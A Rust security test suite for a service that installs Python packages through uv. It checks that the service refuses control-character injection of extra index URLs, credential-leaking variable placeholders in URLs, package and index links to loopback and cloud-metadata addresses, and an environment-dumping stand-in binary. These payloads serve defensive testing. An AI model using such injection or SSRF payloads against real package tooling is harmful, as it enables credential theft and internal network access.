//! Requirements with more in them than a package: no more reaches uv or a place on this machine.

use std::net::{IpAddr, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::harness::{Catcher, Index, Instance, Options, Output, folder, write};
use crate::tests;

tests!(
    a_line_ends_where_it_seems_to_end,
    variables_are_put_into_no_address,
    what_a_package_names_leads_to_no_place_of_this_machine,
    what_an_index_names_leads_to_no_place_of_this_machine,
    credentials_are_in_no_variable_of_what_installs,
    a_built_wheel_is_for_those_who_have_its_source,
);

/// Characters that end a line for some readers.
const ENDS: [char; 8] = ['\r', '\x0b', '\x0c', '\x1c', '\x1e', '\u{85}', '\u{2028}', '\u{2029}'];

fn start(index: &Index) -> Instance {
    let variables = vec![("UV_DEFAULT_INDEX", index.url(""))];
    Instance::start(&Options { variables, ..Options::default() })
}

fn refused(output: &Output, says: &str) {
    assert_eq!(output.code, 2, "{output:?}");
    assert!(output.stderr.contains(says) && !output.stderr.contains("panicked"), "{output:?}");
}

/// A wheel of one module, with more lines in its metadata.
fn wheel(folder: &Path, name: &str, metadata: &str) -> PathBuf {
    const PACK: &str = "
import sys, zipfile
path, name, metadata = sys.argv[1:]
info = f'{name}-1.0.dist-info/'
with zipfile.ZipFile(path, 'w') as wheel:
    wheel.writestr(f'{name}.py', 'def handler(event): return 1\\n')
    wheel.writestr(info + 'METADATA', f'Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n{metadata}\\n')
    wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
    wheel.writestr(info + 'RECORD', ''.join(f'{n},,\\n' for n in wheel.namelist()) + info + 'RECORD,,\\n')
";
    let path = folder.join(format!("{name}-1.0-py3-none-any.whl"));
    let packed =
        Command::new("python3").args(["-c", PACK]).arg(&path).args([name, metadata]).output();
    assert!(packed.as_ref().is_ok_and(|packed| packed.status.success()), "{packed:?}");
    path
}

fn a_line_ends_where_it_seems_to_end() {
    let catcher = Catcher::start();
    let evil = format!("http://127.0.0.1:{}/simple", catcher.port());
    let index = Index::start(&["setuptools", "wheel", "packaging"], &[], None);
    index.add_wheels(&[("plain", "1.0", vec![("plain.py", b"x = 1\n")])]);
    let instance = start(&index);
    let scratch = instance.scratch();
    let add = |file: &Path| instance.call(&["env", "add", "bad", "-r", file.to_str().unwrap()]);
    for end in ENDS {
        let line = format!("plain{end}--no-binary :all:{end}--extra-index-url {evil}{end}");
        refused(&instance.call(&["env", "add", "bad", &line]), "control character");
        let file = write(&scratch, "r.txt", &format!("# one\n{line}\n"));
        let output = add(&file);
        refused(&output, "control character");
        assert!(output.stderr.contains("r.txt:2: "), "{output:?}");
        let marker = write(&scratch, "r.txt", &format!("plain ; os_name == 'a{end}{line}'\n"));
        refused(&add(&marker), "control character");
        let option = write(&scratch, "r.txt", &format!("--pre{end}{line}\n"));
        refused(&add(&option), "control character");
        write(&scratch, "c.txt", &format!("{line}\n"));
        let limits = scratch.join("c.txt");
        let limited = ["env", "add", "bad", "plain", "-c", limits.to_str().unwrap()];
        refused(&instance.call(&limited), "control character");
        let escaped = format!("\\u{:04x}", u32::from(end));
        let quoted = line.replace(end, &escaped);
        let script = format!("# /// script\n# dependencies = [\"{quoted}\"]\n# ///\n");
        refused(&add(&write(&scratch, "s.py", &script)), "control character");
        let lock = format!(
            "lock-version = '1.0'\ncreated-by = 'a test'\n[[packages]]\nname = \"{quoted}\"\n\
             version = '1'\nwheels = [{{ url = 'https://x/x.whl', hashes = {{ sha256 = 'aa' }} }}]\n"
        );
        refused(&add(&write(&scratch, "pylock.toml", &lock)), "control character");
        let path = wheel(&scratch, "shop", &format!("Requires-Dist: {line}"));
        refused(&instance.call(&["deploy", "shop", path.to_str().unwrap()]), "control character");
    }
    // What a source needs for being built.
    let building = format!("plain\\r--no-binary :all:\\r--extra-index-url {evil}");
    for (number, requires) in
        [building, format!("plain @ {evil}/plain-1.0-py3-none-any.whl"), "--pre".to_owned()]
            .iter()
            .enumerate()
    {
        let name = format!("source{number}");
        index.add(&format!("{name}-1.0.tar.gz"), &source(&name, requires));
        let output = instance.call(&["env", "add", "bad", &name, "--allow-build"]);
        assert_eq!(output.code, 2, "{output:?}");
    }
    assert_eq!(catcher.heard(), [""; 0]);
    // Those of editors elsewhere are none.
    let file = write(&scratch, "r.txt", "plain==1.0\r\n\x0c\r\n");
    assert_eq!(add(&file).code, 0);
}

/// Python code that copies an existing archive.
fn copying(path: &Path) -> String {
    format!("import shutil, sys; shutil.copy('{}', sys.argv[1])", path.display())
}

/// Python code that makes a source distribution with a requirement of its build.
fn source(name: &str, requires: &str) -> String {
    format!(
        r#"
import io, sys, tarfile
with tarfile.open(sys.argv[1], 'w:gz') as archive:
    for path, text in [
        ('pyproject.toml', '[build-system]\nrequires = ["{}"]\n'),
        ('setup.py', 'from setuptools import setup\nsetup(name="{name}", version="1.0")\n'),
        ('PKG-INFO', 'Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n'),
    ]:
        member = tarfile.TarInfo('{name}-1.0/' + path)
        member.size = len(text)
        archive.addfile(member, io.BytesIO(text.encode()))
"#,
        requires.replace('\\', "\\\\")
    )
}

fn variables_are_put_into_no_address() {
    let catcher = Catcher::start();
    // `me:hunter2`
    let index = Index::start(&[], &[], Some("Basic bWU6aHVudGVyMg=="));
    index.add_wheels(&[("plain", "1.0", vec![("plain.py", b"x = 1\n")])]);
    let config = folder();
    let file = config.path().join("config.toml");
    std::fs::write(&file, format!("[index]\nurl = \"{}\"\n", index.url("me:hunter2@"))).unwrap();
    let variables = vec![("PIPSQUEAK_CONFIG", file.to_str().unwrap().to_owned())];
    let instance = Instance::start(&Options { variables, ..Options::default() });
    let place = format!("http://127.0.0.1:{}", catcher.port());
    let asked = ["UV_DEFAULT_INDEX", "UV_INDEX_URL", "PATH"].map(|name| format!("${{{name}}}"));
    for variable in &asked {
        for line in [
            format!("x @ {place}/{variable}/x-1-py3-none-any.whl"),
            format!("x @ {place}/x-1-py3-none-any.whl?q={variable}"),
            format!("--extra-index-url {place}/simple?q={variable}"),
            format!("-f {place}/{variable}"),
        ] {
            // Of the supervisor's: the caller's own are put in by the caller, as pip has it.
            let file = write(&instance.scratch(), "r.txt", &format!("plain\n{line}\n"));
            let mut command = instance.command();
            command.env_remove("UV_DEFAULT_INDEX").env_remove("UV_INDEX_URL").env_remove("PATH");
            let output =
                command.args(["env", "add", "bad", "-r", file.to_str().unwrap()]).output().unwrap();
            let said = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(2), "{line}: {said}");
            assert!(said.contains("r.txt:2: ") && !said.contains("hunter2"), "{line}: {said}");
        }
        // In what a wheel says that the user has named: uv reads that, and nobody else.
        let line = format!("Requires-Dist: x @ {place}/x-1-py3-none-any.whl?q={variable}");
        let path = wheel(&instance.scratch(), "direct", &line);
        index.add("direct-1.0-py3-none-any.whl", &copying(&path));
        let url = index.archive_url("direct-1.0-py3-none-any.whl");
        let output = instance.call(&["env", "add", "bad", &format!("direct @ {url}")]);
        assert_eq!(output.code, 2, "{output:?}");
        assert!(!output.stderr.contains("hunter2"), "{output:?}");
    }
    assert_eq!(catcher.heard(), [""; 0]);
    instance.ok(&["env", "add", "good", "plain"]);
}

/// An address of this machine that others reach it by, if it has one.
fn own_address() -> Option<IpAddr> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    // No packet is sent; an interface is chosen.
    socket.connect("198.51.100.1:9").ok()?;
    Some(socket.local_addr().ok()?.ip()).filter(|ip| !ip.is_unspecified() && !ip.is_loopback())
}

fn what_a_package_names_leads_to_no_place_of_this_machine() {
    let catcher = Catcher::start();
    let port = catcher.port();
    let index = Index::start(&[], &[], None);
    let instance = start(&index);
    let hosts = ["127.0.0.1", "localhost", "127.1", "0x7f000001", "0.0.0.0", "[::ffff:127.0.0.1]"];
    let hosts =
        hosts.into_iter().map(ToOwned::to_owned).chain(own_address().map(|ip| ip.to_string()));
    for (number, host) in hosts.enumerate() {
        let place = format!("http://{host}:{port}/inner-1.0-py3-none-any.whl");
        let line = format!("Requires-Dist: inner @ {place}");
        // Of a wheel that the user has named, uv reads the metadata.
        let name = format!("outer{number}");
        let path = wheel(&instance.scratch(), &name, &line);
        let file = format!("{name}-1.0-py3-none-any.whl");
        index.add(&file, &copying(&path));
        let output = instance.call(&[
            "env",
            "add",
            "bad",
            &format!("{name} @ {}", index.archive_url(&file)),
        ]);
        assert_eq!(output.code, 2, "{host}: {output:?}");
        // Of a wheel that is deployed, the client does.
        let output = instance.call(&["deploy", "shop", path.to_str().unwrap()]);
        if output.code == 0 {
            let answer = instance.call(&["invoke", "shop"]);
            assert_ne!(answer.code, 0, "{host}: {answer:?}");
        }
    }
    // Who is named by the user sends on to who is not.
    let sending = Catcher::sending_to(&format!("http://127.0.0.1:{port}/x-1-py3-none-any.whl"));
    let named = format!("x @ http://127.0.0.1:{}/x-1-py3-none-any.whl", sending.port());
    let output = instance.call(&["env", "add", "bad", &named]);
    refused(&output, &format!("127.0.0.1:{port} was not reached"));
    assert!(!sending.heard().is_empty());
    assert_eq!(catcher.heard(), [""; 0]);
}

fn what_an_index_names_leads_to_no_place_of_this_machine() {
    let catcher = Catcher::start();
    let index = Index::start(&["setuptools", "wheel", "packaging"], &[], None);
    let instance = start(&index);
    let hash = "0".repeat(64);
    for (number, place) in [
        format!("http://127.0.0.1:{}/", catcher.port()),
        "http://169.254.169.254/latest/".to_owned(),
        format!("http://localhost:{}/", catcher.port()),
    ]
    .iter()
    .enumerate()
    {
        for (name, file) in [
            (format!("wheel{number}"), format!("wheel{number}-1.0-py3-none-any.whl")),
            (format!("sdist{number}"), format!("sdist{number}-1.0.tar.gz")),
        ] {
            index.add_page(&name, &format!("<a href=\"{place}{file}#sha256={hash}\">{file}</a>"));
            let output = instance.call(&["env", "add", "bad", &name, "--allow-build"]);
            assert!(output.stderr.contains("was not reached"), "{place}{file}: {output:?}");
            assert_ne!(output.code, 0, "{place}{file}: {output:?}");
        }
    }
    assert_eq!(catcher.heard(), [""; 0]);
}

/// Stands in for uv and prints its variables, arguments and files in hexadecimal digits, because
/// the supervisor removes secrets from texts.
const CURIOUS: &str = r#"
#include <glob.h>
#include <stdio.h>
extern char **environ;
static void tell(const char *text) {
    for (; *text; text++) fprintf(stderr, "%02x", (unsigned char)*text);
    fprintf(stderr, "0a");
}
int main(int count, char **arguments) {
    glob_t found;
    for (char **one = environ; *one; one++) tell(*one);
    for (int at = 0; at < count; at++) tell(arguments[at]);
    glob("/pipsqueak/work/*", 0, NULL, &found);
    for (size_t at = 0; at < found.gl_pathc; at++) {
        static char text[65536];
        FILE *file = fopen(found.gl_pathv[at], "r");
        if (file) text[fread(text, 1, sizeof text - 1, file)] = 0, tell(text);
    }
    return 1;
}
"#;

fn credentials_are_in_no_variable_of_what_installs() {
    let tools = folder();
    let (uv, code) = (tools.path().join("uv"), write(tools.path(), "uv.c", CURIOUS));
    let made = Command::new("gcc").arg("-o").arg(&uv).arg(code).status().unwrap();
    assert!(made.success());
    let variables = vec![
        ("PIPSQUEAK_UV", uv.to_str().unwrap().to_owned()),
        ("UV_DEFAULT_INDEX", "http://me:hunter2@127.0.0.1:1/simple".to_owned()),
        ("UV_INDEX", "own=http://127.0.0.1:2/simple".to_owned()),
        ("UV_INDEX_OWN_USERNAME", "me".to_owned()),
        ("UV_INDEX_OWN_PASSWORD", "hunter3".to_owned()),
        ("HTTPS_PROXY", "http://me:hunter4@127.0.0.1:3".to_owned()),
        ("UV_PUBLISH_TOKEN", "hunter5".to_owned()),
    ];
    let instance = Instance::start(&Options { variables, ..Options::default() });
    let output = instance.call(&["env", "add", "bad", "six"]);
    assert_ne!(output.code, 0, "{output:?}");
    let is_digit = |c: &char| c.is_ascii_hexdigit();
    let told = output.stderr.lines().map(|line| line.rsplit(' ').find(|word| word.len() > 100));
    let told: String = told.flatten().next().unwrap_or_default().chars().filter(is_digit).collect();
    let bytes = (0..told.len() / 2).map(|at| u8::from_str_radix(&told[2 * at..][..2], 16).unwrap());
    let seen = String::from_utf8(bytes.collect()).unwrap();
    assert!(seen.contains("LANG=C.UTF-8\n") && seen.contains("six\n"), "{seen} {output:?}");
    assert!(!seen.contains("hunter"), "{seen}");
}

fn a_built_wheel_is_for_those_who_have_its_source() {
    let setup = |says: &str| {
        format!(
            "from setuptools import setup\nopen('tool.py', 'w').write('says = \"{says}\"')\n\
             setup(name='tool', version='1.0', py_modules=['tool'])\n"
        )
    };
    let (evil, honest) = (setup("evil"), setup("honest"));
    let needed = ["setuptools", "wheel", "packaging"];
    let main = Index::start(&needed, &[("tool", &honest)], None);
    main.add_wheels(&[("newer", "1.0", vec![("newer.py", b"says = 'honest'\n")])]);
    let newer = "from setuptools import setup\nopen('newer.py', 'w').write('says = \"evil\"')\n\
                 setup(name='newer', version='9.0', py_modules=['newer'])\n";
    let other = Index::start(&[], &[("tool", &evil)], None);
    other.add("newer-9.0.tar.gz", &packed("newer", "9.0", newer));
    let instance = start(&main);
    let text = format!("--extra-index-url {}\ntool\nnewer==9.0\n", other.url(""));
    let file = write(&instance.scratch(), "r.txt", &text);
    instance.ok(&["env", "add", "of-evil", "-r", file.to_str().unwrap(), "--allow-build"]);
    instance.ok(&["env", "add", "of-honest", "tool", "newer", "--allow-build"]);
    let says = |environment: &str| {
        let python = instance.mount().join("envs").join(environment).join("bin/python");
        let code = "import newer, tool; print(tool.says, newer.says)";
        let output = Command::new(python).args(["-c", code]).output().unwrap();
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    };
    assert_eq!(says("of-evil"), "evil evil");
    assert_eq!(says("of-honest"), "honest honest");
    // Built once for all who have that source.
    let fetched = main.fetched("tool-1.0.tar.gz");
    instance.ok(&["env", "add", "again", "tool", "--allow-build"]);
    assert_eq!(main.fetched("tool-1.0.tar.gz"), fetched);
}

/// Python code that makes a source distribution of a `setup.py`.
fn packed(name: &str, version: &str, setup: &str) -> String {
    format!(
        "import io, sys, tarfile\nsetup = {setup:?}.encode()\n\
         with tarfile.open(sys.argv[1], 'w:gz') as archive:\n\
         \x20   member = tarfile.TarInfo('{name}-{version}/setup.py')\n\
         \x20   member.size = len(setup)\n\
         \x20   archive.addfile(member, io.BytesIO(setup))\n"
    )
}
